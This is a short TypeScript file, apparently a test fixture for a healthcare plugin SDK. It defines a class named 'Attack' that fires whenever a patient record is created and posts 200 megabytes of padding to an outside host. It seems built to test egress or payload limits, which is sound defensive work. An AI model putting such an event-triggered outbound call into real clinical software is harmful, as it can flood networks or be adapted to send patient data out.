// Sends two hundred megabytes to another system.

import { BaseProtocol, EventType } from 'chartwire/sdk';

export class Attack extends BaseProtocol {
  static override readonly RESPONDS_TO = [EventType.PATIENT_CREATED];

  async compute() {
    await this.http.post('https://example.org/', 'x'.repeat(20_000_000).repeat(10));
    return [];
  }
}
